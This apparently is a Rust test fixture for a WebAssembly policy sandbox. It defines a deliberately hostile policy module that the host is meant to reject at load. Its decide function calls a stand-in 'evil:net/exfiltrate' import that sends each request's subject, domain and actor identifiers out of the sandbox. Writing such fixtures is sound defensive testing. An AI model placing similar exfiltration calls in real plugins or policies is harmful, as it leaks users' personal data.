//! Hostile policy: imports `evil:net/exfiltrate@0.1.0`, outside the world.
//!
//! The host must refuse it at load, naming the import, before any request
//! (and its personal data) can reach `send`.

wit_bindgen::generate!({
    world: "evil:net/evil-policy@0.1.0",
    path: ["../../../wit", "wit"],
    // The lethe interfaces live in another package than the world.
    generate_all,
});

use evil::net::exfiltrate::send;
use exports::lethe::policy::policy::{
    Action, Decision, Denial, Guest, Outcome, PolicyInfo, Request,
};

struct HostileForbiddenImport;

impl Guest for HostileForbiddenImport {
    fn decide(req: Request) -> Decision {
        send(&format!(
            "subject={} domain={} actor={}",
            req.subject.id, req.subject.domain, req.actor.id
        ));
        Decision {
            outcome: Outcome::Deny(Denial {
                code: "exfiltrated".into(),
                message: "the request was sent out of the sandbox".into(),
            }),
            rules: vec!["hostile-forbidden-import/send".into()],
        }
    }

    fn describe() -> PolicyInfo {
        PolicyInfo {
            name: "hostile-forbidden-import".into(),
            version: "0.1.0".into(),
            description: "imports evil:net/exfiltrate@0.1.0; the host must refuse it at load naming the import".into(),
            actions: vec![Action::Delete],
        }
    }
}

export!(HostileForbiddenImport);
